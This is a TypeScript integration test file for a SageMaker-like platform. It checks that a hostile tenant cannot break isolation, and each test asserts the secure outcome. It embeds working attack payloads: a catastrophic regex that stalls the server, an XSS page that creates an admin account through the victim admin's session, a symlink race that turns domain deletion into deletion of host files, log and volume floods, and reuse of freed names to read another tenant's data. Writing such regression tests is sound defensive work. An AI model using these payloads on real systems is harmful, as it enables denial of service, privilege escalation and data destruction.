// Hostile tenants, review of the "every user is hostile" change: attacks by an ORDINARY user that
// the other hostile suites (hostile-*.int.test.ts, container-paths, resource-origins, s3-inert,
// docker-runtime) do not cover. Each test asserts the secure behaviour, so it fails while the
// hole is open and passes once it is closed. Each boots its own server on the docker backend:
// a test that freezes or poisons one leaves nothing to the next.
//
//   R1, R2  RE2 is linear in the text but not in the pattern: a 25-character bounded repetition
//           ([^x]{0,1000}[^y]{0,1000}z) costs ~40 µs per byte, on the server's one thread.
//   R3      CreateTransformJob accepts InstanceType "system", which quotas, the profile rule
//           and the meter all skip.
//   R4      A bucket name freed by its owner and taken by another user: work created while it
//           was the first user's still reads and writes it (the bucket check runs at creation).
//   R5      A user profile name reused for another user: the new owner gets the old owner's
//           home, and the old owner's still-running Studio with its live kernels.
//   R6      A tenant's Jupyter server serves files of the tenant's home (kernelspec resources)
//           as active HTML on Tessera's own origin, to the admins who may open that Studio.
//   R7      What a container prints is kept whole by the log store on the host's disk: a job
//           with a 1 GiB volume writes gigabytes there.
//   R8      VolumeSizeInGB is not held to what the host has: a volume larger than the free
//           space of the data directory is made, so writes inside the bound fill the host.
//   R10     A Studio home is a plain directory on the data directory's disk: a kernel can fill the
//           disk the database, the object store and every other tenant's home live on.
//   R9      Deleting a domain with its home storage leaves the tenants' Studio instances running
//           and removes the homes with a path-based rm -rf (fs.rm): a kernel that swaps a
//           directory for a link at the right moment makes the server delete host files.
import { FilterLogEventsCommand } from '@aws-sdk/client-cloudwatch-logs';
import {
  CreateBucketCommand,
  DeleteBucketCommand,
  DeleteObjectCommand,
  ListObjectsV2Command,
  PutObjectCommand,
} from '@aws-sdk/client-s3';
import {
  CreateEndpointCommand,
  CreateEndpointConfigCommand,
  CreateModelCommand,
  CreateTrainingJobCommand,
  CreateTransformJobCommand,
  DeleteAppCommand,
  DeleteEndpointCommand,
  DescribeDomainCommand,
  DescribeTrainingJobCommand,
  DescribeTransformJobCommand,
  DescribeUserProfileCommand,
  ListAppsCommand,
  ListDomainsCommand,
  StopTrainingJobCommand,
  StopTransformJobCommand,
  type CreateTransformJobCommandInput,
  type TransformInstanceType,
} from '@aws-sdk/client-sagemaker';
import { InvokeEndpointCommand } from '@aws-sdk/client-sagemaker-runtime';
import { execute, jupyterManagers, jupyterSettings, waitFor } from '@tessera/test-support';
import { existsSync, mkdtempSync, readdirSync, rmSync, statfsSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { boot, createDomain, homeDirOf, otherUser, uniqueName, type Harness } from './harness.ts';
import {
  answersWithin,
  docker,
  endpointStatus,
  footprint,
  GiB,
  jobLogs,
  marker,
  serverEnv,
  shellTraining,
  tagged,
  TRAINING_LOGS,
  weightModel,
} from './hostile-fixture.ts';
import { ROLE, SKLEARN_IMAGE, sourceDir, trainingEnds, workUser } from './work-fixture.ts';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

async function withServer(fn: (h: Harness) => Promise<void>, env: Record<string, string> = {}) {
  const h = await boot({ TESSERA_BACKEND: 'docker', ...serverEnv, ...env });
  try {
    await fn(h);
  } finally {
    // A frozen server cannot run its SIGTERM handler.
    if (!(await answersWithin(h.server.url, 2_000))) h.server.process.kill('SIGKILL');
    await h.close();
  }
}

async function listsWithin(h: Harness, ms: number): Promise<boolean> {
  try {
    await h.sagemaker.send(new ListDomainsCommand({}), { abortSignal: AbortSignal.timeout(ms) });
    return true;
  } catch {
    return false;
  }
}

// Valid RE2 (no backreference, no lookaround, 1000 repetitions at most): RE2 compiles it into
// a program of ~2000 states that its DFA cannot cache, so it falls back to the NFA, which walks
// every state for every byte. Measured here: 0.64 s per 16 KiB line on one core.
const SLOW_RE2 = '[^x]{0,1000}[^y]{0,1000}z';
/** bash: `n` lines of 16,000 'a' each (Docker splits longer lines at 16 KiB anyway). */
const bigLines = (n: number) => `for i in $(seq 1 ${n}); do head -c 16000 /dev/zero | tr '\\0' a; echo; done`;

describe('review R1–R2: a linear-time regex engine is not a bounded one', { timeout: 240_000 }, () => {
  it(
    'R1. FilterLogEvents %[^x]{0,1000}[^y]{0,1000}z% over 128 KiB ' + 'of its own log does not freeze the server',
    async () => {
      await withServer(async (h) => {
        const u = await workUser(h);
        const name = uniqueName('re2-log');
        await u.sagemaker.send(new CreateTrainingJobCommand(await shellTraining(u, name, `${bigLines(8)}; exit 0`)));
        expect((await trainingEnds(u.sagemaker, name)).TrainingJobStatus).toBe('Completed');
        // Every line is stored before the filter runs.
        expect((await jobLogs(u, TRAINING_LOGS, name)).split('\n').filter((l) => l.length >= 16000).length).toBe(8);

        const abort = new AbortController();
        const started = Date.now();
        const filter = u.logs
          .send(
            new FilterLogEventsCommand({
              logGroupName: TRAINING_LOGS,
              logStreamNamePrefix: `${name}/`,
              filterPattern: `%${SLOW_RE2}%`,
            }),
            { abortSignal: abort.signal },
          )
          .then(
            (r) => ({ events: r.events?.length ?? 0, ms: Date.now() - started }),
            (e: Error) => ({ error: e.name, ms: Date.now() - started }),
          );
        await sleep(500); // the request is in the server by now
        const healthz = await answersWithin(h.server.url, 1_000);
        const listed = await listsWithin(h, 1_000);
        const settled = await filter;
        abort.abort();
        expect({ healthzWithin1s: healthz, listDomainsWithin1s: listed }, JSON.stringify(settled)).toEqual({
          healthzWithin1s: true,
          listDomainsWithin1s: true,
        });
      });
    },
  );

  it(
    'R2. a MetricDefinitions regex [^x]{0,1000}[^y]{0,1000}z over ' + "the job's own output does not freeze the server",
    async () => {
      await withServer(async (h) => {
        const u = await workUser(h);
        const name = uniqueName('re2-metric');
        // The lines come 3 s into the job, so the probes below run while the server reads them.
        const job = await shellTraining(u, name, `sleep 3; ${bigLines(12)}; sleep 8; exit 0`);
        job.AlgorithmSpecification!.MetricDefinitions = [{ Name: 'm', Regex: SLOW_RE2 }];
        const created = await u.sagemaker.send(new CreateTrainingJobCommand(job)).then(
          () => undefined,
          (e: Error) => e,
        );
        if (created) {
          expect(created.name).toBe('ValidationException'); // refusing such a regex up front is a fix
          return;
        }
        const probes: { at: number; healthz: boolean }[] = [];
        const start = Date.now();
        while (Date.now() - start < 20_000) {
          probes.push({ at: Date.now() - start, healthz: await answersWithin(h.server.url, 1_000) });
          if (probes.filter((p) => !p.healthz).length >= 3) break;
          await sleep(500);
        }
        const missed = probes.filter((p) => !p.healthz).map((p) => `${(p.at / 1000).toFixed(1)} s`);
        expect(missed, `/healthz unanswered within 1 s at: ${missed.join(', ')}`).toEqual([]);
      });
    },
  );
});

const refusal = (p: Promise<unknown>) =>
  p.then(
    () => undefined,
    (e: Error) => e,
  );

describe('review R3: the "system" instance type', { timeout: 240_000 }, () => {
  it(
    'R3. a user with no profile cannot run a transform job on ' + '"system" (no quota, no profile rule, priced 0)',
    async () => {
      await withServer(async (h) => {
        // Carol has an account and a bucket, and no user profile: she may launch no instances.
        const carol = await workUser(h, { profile: false });
        const model = await weightModel(carol, 2);
        const input = await carol.put('in/rows.csv', '1\n2\n3\n');
        const job = (name: string, InstanceType: string): CreateTransformJobCommandInput => ({
          TransformJobName: name,
          ModelName: model,
          TransformInput: {
            DataSource: { S3DataSource: { S3DataType: 'S3Prefix', S3Uri: input } },
            ContentType: 'text/csv',
            SplitType: 'Line',
          },
          TransformOutput: { S3OutputPath: `s3://${carol.bucket}/out`, Accept: 'text/csv', AssembleWith: 'Line' },
          TransformResources: { InstanceType: InstanceType as TransformInstanceType, InstanceCount: 2 },
        });
        // The rule holds for an ml.* type ...
        const ml = await refusal(
          carol.sagemaker.send(new CreateTransformJobCommand(job(uniqueName('tj-ml'), 'ml.m5.large'))),
        );
        expect(ml?.name).toBe('ResourceLimitExceeded');

        // ... and "system", the JupyterServer app's own type, which training, processing, endpoint
        // configs and KernelGateway apps all refuse, is offered to transform jobs.
        const name = uniqueName('tj-system');
        const sys = await refusal(carol.sagemaker.send(new CreateTransformJobCommand(job(name, 'system'))));
        let evidence: Record<string, unknown> = { refused: sys?.name ?? false };
        if (!sys) {
          const running = await waitFor(
            async () => {
              const rows = await docker.listContainers({
                filters: { label: ['tessera.work-kind=TransformJob', 'tessera.instance-type=system'] },
              });
              return rows.length >= 2 ? rows.length : undefined;
            },
            "carol's transform containers",
            120_000,
            250,
          ).catch(() => 0);
          const d = await carol.sagemaker.send(new DescribeTransformJobCommand({ TransformJobName: name }));
          evidence = {
            refused: false,
            status: d.TransformJobStatus,
            instanceType: d.TransformResources?.InstanceType,
            containersOnSystem: running,
          };
          await carol.sagemaker.send(new StopTransformJobCommand({ TransformJobName: name })).catch(() => undefined);
        }
        expect(evidence).toEqual({ refused: expect.stringMatching(/ResourceLimitExceeded|ValidationException/) });
      });
    },
  );
});

// Bob's serving code: returns every file of the model directory it was given.
const DUMP_MODEL = `
import json, os
def model_fn(model_dir):
    found = {}
    for root, _, files in os.walk(model_dir):
        for f in files:
            p = os.path.join(root, f)
            try:
                found[os.path.relpath(p, model_dir)] = open(p, errors='replace').read()[:300]
            except Exception as e:
                found[p] = repr(e)
    return found
def input_fn(body, content_type):
    return body
def predict_fn(data, model):
    return model
def output_fn(prediction, accept):
    return json.dumps(prediction), 'application/json'
`;

describe('review R4: bucket names outlive their owners', { timeout: 300_000 }, () => {
  it("R4. work made while a bucket was Bob's neither reads nor writes it once Alice owns that name", async () => {
    await withServer(async (h) => {
      const bob = await workUser(h);
      const alice = await workUser(h);
      // A name Bob holds for a while: say the SDK's default bucket, sagemaker-<region>-<account>,
      // which is the same for every user of one installation.
      const shared = uniqueName('sagemaker-us-east-1').toLowerCase();
      await bob.s3.send(new CreateBucketCommand({ Bucket: shared }));
      await bob.s3.send(
        new PutObjectCommand({ Bucket: shared, Key: 'model.tar.gz', Body: await sourceDir({ 'w.txt': '1' }) }),
      );
      const code = await bob.put('code/sourcedir.tar.gz', await sourceDir({ 'dump.py': DUMP_MODEL }));
      const [m, c, ep] = [uniqueName('m'), uniqueName('c'), uniqueName('ep')];
      await bob.sagemaker.send(
        new CreateModelCommand({
          ModelName: m,
          ExecutionRoleArn: ROLE,
          PrimaryContainer: {
            Image: SKLEARN_IMAGE,
            ModelDataUrl: `s3://${shared}/model.tar.gz`,
            Environment: { SAGEMAKER_PROGRAM: 'dump.py', SAGEMAKER_SUBMIT_DIRECTORY: code },
          },
        }),
      );
      await bob.sagemaker.send(
        new CreateEndpointConfigCommand({
          EndpointConfigName: c,
          ProductionVariants: [
            { VariantName: 'AllTraffic', ModelName: m, InstanceType: 'ml.m5.large', InitialInstanceCount: 1 },
          ],
          DataCaptureConfig: {
            EnableCapture: true,
            InitialSamplingPercentage: 100,
            DestinationS3Uri: `s3://${shared}/capture`,
            CaptureOptions: [{ CaptureMode: 'Input' }, { CaptureMode: 'Output' }],
          },
        }),
      );
      // Bob lets the name go ...
      await bob.s3.send(new DeleteObjectCommand({ Bucket: shared, Key: 'model.tar.gz' }));
      await bob.s3.send(new DeleteBucketCommand({ Bucket: shared }));
      // ... and Alice takes it and keeps her model there.
      const secret = marker('alice-model');
      await alice.s3.send(new CreateBucketCommand({ Bucket: shared }));
      await alice.s3.send(
        new PutObjectCommand({
          Bucket: shared,
          Key: 'model.tar.gz',
          Body: await sourceDir({ 'weights.txt': secret }),
        }),
      );

      await bob.sagemaker.send(new CreateEndpointCommand({ EndpointName: ep, EndpointConfigName: c }));
      try {
        const d = await endpointStatus(bob.sagemaker, ep, ['InService', 'Failed']);
        let answer = '';
        if (d.EndpointStatus === 'InService') {
          const r = await bob.runtime.send(
            new InvokeEndpointCommand({ EndpointName: ep, Body: Buffer.from('1'), ContentType: 'text/csv' }),
          );
          answer = Buffer.from(r.Body!).toString();
          await new Promise((r) => setTimeout(r, 4_000)); // past two flushes of the capture buffers
        }
        const inAlicesBucket =
          (await alice.s3.send(new ListObjectsV2Command({ Bucket: shared, Prefix: 'capture/' }))).Contents?.map(
            (o) => o.Key!,
          ) ?? [];
        expect(
          {
            bobsEndpointServedAlicesModel: answer.includes(secret),
            bobsCaptureWroteIntoAlicesBucket: inAlicesBucket,
          },
          `endpoint ${d.EndpointStatus} ${d.FailureReason ?? ''}; Bob's endpoint answered: ${answer.slice(0, 300)}`,
        ).toEqual({ bobsEndpointServedAlicesModel: false, bobsCaptureWroteIntoAlicesBucket: [] });
      } finally {
        await bob.sagemaker.send(new DeleteEndpointCommand({ EndpointName: ep })).catch(() => undefined);
      }
    });
  });
});

async function profileInService(h: Harness, DomainId: string, UserProfileName: string) {
  await waitFor(async () => {
    const p = await h.sagemaker.send(new DescribeUserProfileCommand({ DomainId, UserProfileName }));
    return p.Status === 'InService' ? p : undefined;
  }, `profile ${UserProfileName} InService`);
}

async function openStudio(
  u: { session: { rest: Harness['session']['rest'] } },
  DomainId: string,
  UserProfileName: string,
) {
  return waitFor(
    async () => {
      const r = await u.session.rest('POST', '/api/v1/studio/open', { DomainId, UserProfileName });
      if (r.status !== 200) throw new Error(JSON.stringify(r.body));
      if (r.body.App?.Status === 'Failed') throw new Error(r.body.App.FailureReason);
      return r.body.App?.Status === 'InService' ? r.body : undefined;
    },
    'Studio open',
    180_000,
    250,
  );
}

/** Gives `user` a new profile `P` in the domain and opens Studio on it: its Jupyter base URL. */
async function studioOf(
  h: Harness,
  DomainId: string,
  user: { username: string; session: { rest: Harness['session']['rest'] } },
  P: string,
): Promise<string> {
  const r = await h.session.rest('POST', `/api/v1/domains/${DomainId}/user-profiles`, {
    UserProfileName: P,
    OwnerUsername: user.username,
  });
  expect(r.status).toBe(200);
  await profileInService(h, DomainId, P);
  await openStudio(user, DomainId, P);
  return `${h.server.url}/jupyter/${DomainId}/${P}/default/`;
}

/** A notebook session at `base` on the minimal image's kernel, as the user of `cookie`. */
async function minimalNotebook(base: string, cookie: string, path: string) {
  const managers = jupyterManagers(jupyterSettings(base, { cookie }));
  const session = await managers.sessions.startNew({
    path,
    name: path,
    type: 'notebook',
    kernel: { name: 'minimal__ml.t3.medium' },
  });
  return { managers, kernel: session.kernel! };
}

describe('review R5: user profile names outlive their owners', { timeout: 420_000 }, () => {
  it(
    "R5. a profile name given to Bob after Alice's was deleted gives " + 'him neither her home nor her running kernels',
    async () => {
      await withServer(async (h) => {
        const DomainId = await createDomain(h.sagemaker);
        const alice = await otherUser(h);
        const bob = await otherUser(h);
        const P = uniqueName('analyst');
        const give = async (username: string) => {
          const r = await h.session.rest('POST', `/api/v1/domains/${DomainId}/user-profiles`, {
            UserProfileName: P,
            OwnerUsername: username,
          });
          if (r.status !== 200) throw new Error(JSON.stringify(r.body));
          await profileInService(h, DomainId, P);
        };
        await give(alice.username);
        await openStudio(alice, DomainId, P);
        const base = `${h.server.url}/jupyter/${DomainId}/${P}/default/`;

        // Alice works: a file in her home, a secret in a live kernel.
        const fileSecret = marker('alice-home');
        const kernelSecret = marker('alice-kernel');
        const put = await fetch(`${base}api/contents/alice-notes.txt`, {
          method: 'PUT',
          headers: { cookie: alice.session.cookie, 'content-type': 'application/json' },
          body: JSON.stringify({ type: 'file', format: 'text', content: fileSecret }),
        });
        expect(put.status).toBeLessThan(300);
        const aj = await minimalNotebook(base, alice.session.cookie, 'work.ipynb');
        await execute(aj.kernel, `secret = ${JSON.stringify(kernelSecret)}`);
        await aj.managers.dispose();

        // The administrator deletes Alice's profile (Alice leaves) and later gives the name to Bob.
        // Not while her apps run (as SageMaker: ResourceInUse): they would outlive the profile.
        const refused = await h.session.rest('DELETE', `/api/v1/domains/${DomainId}/user-profiles/${P}`);
        expect(refused.status).toBe(409);
        const { Apps = [] } = await h.sagemaker.send(
          new ListAppsCommand({ DomainIdEquals: DomainId, UserProfileNameEquals: P }),
        );
        for (const a of Apps)
          await h.sagemaker.send(
            new DeleteAppCommand({ DomainId, UserProfileName: P, AppType: a.AppType, AppName: a.AppName }),
          );
        const del = await waitFor(async () => {
          const r = await h.session.rest('DELETE', `/api/v1/domains/${DomainId}/user-profiles/${P}`);
          return r.status === 409 ? undefined : r;
        }, "Alice's apps deleted");
        expect(del.status).toBe(204);
        await waitFor(
          () =>
            h.sagemaker.send(new DescribeUserProfileCommand({ DomainId, UserProfileName: P })).then(
              () => undefined,
              (e: Error) => (e.name === 'ResourceNotFound' ? true : undefined),
            ),
          'profile deleted',
        );
        await give(bob.username);

        // Bob opens "his" Studio.
        await openStudio(bob, DomainId, P);
        const found: Record<string, unknown> = {};
        const file = await fetch(`${base}api/contents/alice-notes.txt`, { headers: { cookie: bob.session.cookie } });
        const fileBody = await file.text();
        if (fileBody.includes(fileSecret)) found["Alice's home file"] = `HTTP ${file.status}`;
        const bj = jupyterManagers(jupyterSettings(base, { cookie: bob.session.cookie }));
        try {
          const list = await fetch(`${base}api/kernels`, { headers: { cookie: bob.session.cookie } });
          const kernels = list.ok ? ((await list.json()) as { id: string; name: string }[]) : [];
          for (const k of kernels) {
            const conn = bj.kernels.connectTo({ model: { id: k.id, name: k.name } });
            const out = await execute(conn, 'print(secret)').catch((e: Error) => e.message);
            if (out.includes(kernelSecret)) found[`Alice's live kernel ${k.id}`] = out.trim();
            conn.dispose();
          }
        } finally {
          await bj.dispose();
        }
        expect(found).toEqual({});
      });
    },
  );
});

describe('review R6: tenant content on the server origin', { timeout: 300_000 }, () => {
  it("R6. a file in a tenant's home is not served as active HTML on Tessera's origin to an admin", async () => {
    await withServer(async (h) => {
      const DomainId = await createDomain(h.sagemaker);
      const mallory = await otherUser(h);
      const P = uniqueName('mallory');
      const base = await studioOf(h, DomainId, mallory, P);

      // Mallory shadows the python3 kernel spec from her own Jupyter data directory (in her home),
      // with a page beside it. The contents API writes hidden paths (allow_hidden).
      const payload = marker('xss');
      const write = async (path: string, body: Record<string, unknown>) => {
        const res = await fetch(`${base}api/contents/${path}`, {
          method: 'PUT',
          headers: { cookie: mallory.session.cookie, 'content-type': 'application/json' },
          body: JSON.stringify(body),
        });
        expect(res.status, `${path}: ${await res.text()}`).toBeLessThan(300);
      };
      for (const dir of ['.local', '.local/share', '.local/share/jupyter', '.local/share/jupyter/kernels'])
        await write(dir, { type: 'directory' });
      await write('.local/share/jupyter/kernels/python3', { type: 'directory' });
      await write('.local/share/jupyter/kernels/python3/kernel.json', {
        type: 'file',
        format: 'text',
        content: JSON.stringify({
          argv: ['python3', '-m', 'ipykernel_launcher', '-f', '{connection_file}'],
          display_name: 'Python 3',
          language: 'python',
        }),
      });
      await write('.local/share/jupyter/kernels/python3/logo.html', {
        type: 'file',
        format: 'text',
        content:
          `<!doctype html><script>/*${payload}*/fetch('/api/v1/users',{method:'POST',credentials:'include',` +
          "headers:{'content-type':'application/json'},body:JSON.stringify({username:'mallory2'," +
          "password:'a-long-enough-password',isAdmin:true})})</script>",
      });

      // The link Mallory sends an administrator ("my Studio's logo is broken, can you look?").
      const url = `${base}kernelspecs/python3/logo.html`;
      const res = await fetch(url, { headers: { cookie: h.session.cookie } });
      const body = await res.text();
      const csp = res.headers.get('content-security-policy') ?? '';
      const served = {
        status: res.status,
        contentType: res.headers.get('content-type'),
        contentDisposition: res.headers.get('content-disposition'),
        contentSecurityPolicy: csp,
        carriesScript: body.includes(payload),
      };
      const active =
        res.ok &&
        served.carriesScript &&
        /^\s*(text\/html|application\/xhtml\+xml|image\/svg\+xml)/i.test(served.contentType ?? '') &&
        !/\bsandbox\b/.test(csp) &&
        !/^\s*attachment/i.test(served.contentDisposition ?? '');
      expect({ activeOnServerOrigin: active }, JSON.stringify(served)).toEqual({ activeOnServerOrigin: false });
    });
  });
});

describe('review R7–R8: storage on the host', { timeout: 420_000 }, () => {
  it('R7. a job with VolumeSizeInGB=1 cannot put more than its volume on the host disk by printing', async () => {
    // The server keeps at most TESSERA_LOG_STREAM_MAX_BYTES of a stream (256 MiB by default,
    // below any volume); 32 MiB here so that the bound is reached in seconds.
    const cap = 32 * 2 ** 20;
    await withServer(
      async (h) => {
        const u = await workUser(h);
        const name = uniqueName('logflood');
        // Printing, not writing files: nothing of it touches /opt/ml.
        const script = [
          "line=$(head -c 16000 /dev/zero | tr '\\0' a)",
          'end=$((SECONDS + 240))',
          'while [ $SECONDS -lt $end ]; do echo "$line"; done',
          'exit 0',
        ].join('\n');
        const logsDir = join(h.server.dataDir, 'logs');
        const job = await shellTraining(u, name, script, { StoppingCondition: { MaxRuntimeInSeconds: 300 } });
        await u.sagemaker.send(new CreateTrainingJobCommand(job));
        // Until the log store holds more than the job's whole volume, or stops growing while the
        // job still prints (or 4 minutes).
        const started = Date.now();
        let stored = 0;
        let still = 0;
        let slowest = 0;
        while (Date.now() - started < 240_000) {
          const now = existsSync(logsDir) ? footprint(logsDir) : 0;
          still = now > 0 && now === stored ? still + 1 : 0;
          stored = now;
          if (stored > 1.25 * GiB || still >= 5) break;
          const t = Date.now();
          await answersWithin(h.server.url, 5_000);
          slowest = Math.max(slowest, Date.now() - t);
          await sleep(1_000);
        }
        const seconds = (Date.now() - started) / 1000;
        const status = (await u.sagemaker.send(new DescribeTrainingJobCommand({ TrainingJobName: name })))
          .TrainingJobStatus;
        await u.sagemaker.send(new StopTrainingJobCommand({ TrainingJobName: name })).catch(() => undefined);
        await trainingEnds(u.sagemaker, name, 120_000).catch(() => undefined);
        const last = (await jobLogs(u, TRAINING_LOGS, name)).trimEnd().split('\n').at(-1) ?? '';
        expect(
          { logStoreWithinVolume: stored <= 1.25 * GiB, stillPrintingWhenItStopped: status === 'InProgress' },
          `the log store held ${(stored / GiB).toFixed(2)} GiB after ${seconds.toFixed(0)} s of one job's output ` +
            `(VolumeSizeInGB=1); slowest /healthz meanwhile ${slowest} ms`,
        ).toEqual({ logStoreWithinVolume: true, stillPrintingWhenItStopped: true });
        // The stream says what happened to the rest.
        expect(last).toMatch(/^\[Tessera\] this stream reached 33554432 bytes/);
        expect(stored).toBeLessThan(cap + 8 * 2 ** 20);
      },
      { TESSERA_LOG_STREAM_MAX_BYTES: String(cap) },
    );
  });

  it("R8. a VolumeSizeInGB larger than the data directory's free space is refused, not made", async () => {
    await withServer(async (h) => {
      const u = await workUser(h);
      const fs = statfsSync(h.server.dataDir);
      const freeGiB = (fs.bavail * fs.bsize) / GiB;
      const ask = Math.ceil(freeGiB * 2);
      const name = uniqueName('bigvol');
      // Writes nothing: reports the size of the volume it was given, and ends.
      const job = await shellTraining(
        u,
        name,
        `echo "HOSTILE-VOLUME {\\"size\\": $(df -B1 --output=size /opt/ml | tail -1)}"; exit 0`,
        { ResourceConfig: { InstanceType: 'ml.m5.large', InstanceCount: 1, VolumeSizeInGB: ask } },
      );
      const created = await refusal(u.sagemaker.send(new CreateTrainingJobCommand(job)));
      if (created) {
        expect(created.name).toMatch(/ValidationException|ResourceLimitExceeded/);
        return;
      }
      const d = await trainingEnds(u.sagemaker, name, 180_000);
      if (d.TrainingJobStatus === 'Failed' && /^CapacityError: /.test(d.FailureReason ?? '')) {
        // Refused before any volume was made, saying why.
        expect(d.FailureReason).toMatch(/GiB left for volumes/);
        return;
      }
      const size = tagged<{ size: number }>(await jobLogs(u, TRAINING_LOGS, name), 'HOSTILE-VOLUME')?.size ?? 0;
      expect(
        { volumeFitsTheHost: size <= fs.bavail * fs.bsize },
        `asked ${ask} GiB with ${freeGiB.toFixed(0)} GiB free: job ${d.TrainingJobStatus} ${d.FailureReason ?? ''}, ` +
          `/opt/ml is ${(size / GiB).toFixed(0)} GiB`,
      ).toEqual({ volumeFitsTheHost: true });
    });
  });
});

// Runs in Mallory's kernel, in a thread. Lays N directories (each holding a file) beside N decoy
// files in ~/race. fs.rm removes a tree in waves (lstat every child, then rmdir each directory,
// ENOTEMPTY, then readdir it, ...), so the first decoy to disappear says the server has just
// called rmdir on the directories and is about to list them: each is then swapped for a link to
// the victim directory, and the server lists, lstats and unlinks the victim's files through it.
// Re-armed after each firing; meanwhile new files keep the removal failing, and the domain's
// reconciler retries it (with backoff), which is another try for the trap.
const TRAP = (victim: string) => `
import os, shutil, threading, time
VICTIM, N, base = ${JSON.stringify(victim)}, 800, '/home/sagemaker-user/race'
def lay():
    os.makedirs(base, exist_ok=True)
    for n in os.listdir(base):
        if n.startswith('m'):
            shutil.rmtree(os.path.join(base, n), ignore_errors=True)
    for i in range(N):
        d = f'{base}/d{i}'
        if os.path.islink(d):
            os.unlink(d)
        if not os.path.isdir(d):
            os.mkdir(d)
        if not os.path.lexists(f'{d}/f'):
            open(f'{d}/f', 'w').close()
        if not os.path.lexists(f'{base}/e{i}'):
            open(f'{base}/e{i}', 'w').close()
fired = []
def trap():
    end = time.time() + 300
    while time.time() < end:
        try:
            lay()
        except OSError:
            time.sleep(0.05)
            continue
        sentinels = [f'{base}/e{i}' for i in range(0, N, 3)]
        while time.time() < end:
            if any(not os.path.lexists(s) for s in sentinels):
                n = 0
                for i in range(N):
                    try:
                        os.rename(f'{base}/d{i}', f'{base}/m{i}')
                        os.symlink(VICTIM, f'{base}/d{i}')
                        n += 1
                    except OSError:
                        pass
                fired.append(n)
                break
        time.sleep(1.0)
def keep():
    # New names after each listing: the server's rmdir of ~/race fails (ENOTEMPTY), so the
    # removal fails and is retried, and the trap gets another try.
    k, end = 0, time.time() + 300
    while time.time() < end:
        try:
            open(f'{base}/k{k}', 'w').close()
            k += 1
        except OSError:
            pass
        time.sleep(0.002)
lay()
threading.Thread(target=trap, daemon=True).start()
threading.Thread(target=keep, daemon=True).start()
print('armed')
`;

describe('review R9: removing a domain under its tenants', { timeout: 420_000 }, () => {
  it(
    'R9. deleting a domain with its home storage, while a ' + 'tenant kernel runs, deletes nothing outside it',
    async () => {
      const victim = mkdtempSync('/tmp/hostile-review-victim-');
      for (let i = 0; i < 300; i++) writeFileSync(join(victim, `host-file-${i}`), 'a file of this host\n');
      try {
        await withServer(async (h) => {
          const DomainId = await createDomain(h.sagemaker);
          const mallory = await otherUser(h);
          const base = await studioOf(h, DomainId, mallory, uniqueName('leaver'));
          const mj = await minimalNotebook(base, mallory.session.cookie, 'trap.ipynb');
          expect(await execute(mj.kernel, TRAP(victim))).toContain('armed');

          // The administrator retires the domain, homes included.
          const del = await h.session.rest('DELETE', `/api/v1/domains/${DomainId}?retainHome=false`);
          expect(del.status).toBeLessThan(300);
          const left = () => readdirSync(victim).length;
          const started = Date.now();
          while (Date.now() - started < 120_000 && left() === 300) {
            const gone = await h.sagemaker.send(new DescribeDomainCommand({ DomainId })).then(
              () => false,
              (e: Error) => e.name === 'ResourceNotFound',
            );
            if (gone && Date.now() - started > 20_000) break;
            await sleep(500);
          }
          const fired = await execute(mj.kernel, 'print(fired)').catch((e: Error) => e.message);
          await mj.managers.dispose();
          expect(
            { hostFilesLeft: left() },
            `trap fired (directories swapped each time): ${fired.trim()}; server log: ${h.server.output
              .filter((l) => /domain|ENOTDIR|ENOTEMPTY/.test(l))
              .slice(-4)
              .join(' | ')
              .slice(0, 800)}`,
          ).toEqual({ hostFilesLeft: 300 });
        });
      } finally {
        rmSync(victim, { recursive: true, force: true });
      }
    },
  );
});

describe('review R10: Studio storage', { timeout: 300_000 }, () => {
  it(
    'R10. a Studio home is bounded storage of its own, not the ' + "disk of the server's database and objects",
    async () => {
      await withServer(async (h) => {
        const DomainId = await createDomain(h.sagemaker);
        const u = await otherUser(h);
        const P = uniqueName('filler');
        const base = await studioOf(h, DomainId, u, P);
        const j = await minimalNotebook(base, u.session.cookie, 'df.ipynb');
        // What the kernel may write into its home: nothing is written here, only asked.
        const out = await execute(
          j.kernel,
          "import os, json; s = os.statvfs(os.path.expanduser('~')); print('HOSTILE-HOME ' + " +
            "json.dumps({'avail': s.f_bavail * s.f_frsize, 'total': s.f_blocks * s.f_frsize}))",
        );
        await j.managers.dispose();
        const home = tagged<{ avail: number; total: number }>(out.trim(), 'HOSTILE-HOME')!;
        const homeDir = await homeDirOf(h, DomainId, P);
        // The data directory holds the SQLite database, the object store and the log store.
        const sameDisk = statSync(homeDir).dev === statSync(h.server.dataDir).dev;
        expect(
          { homeOnTheServersDisk: sameDisk },
          `the kernel may write ${(home.avail / GiB).toFixed(1)} GiB into its home, on a file system of ` +
            `${(home.total / GiB).toFixed(0)} GiB that also holds the server's data directory ${h.server.dataDir}`,
        ).toEqual({ homeOnTheServersDisk: false });
      });
    },
  );
});
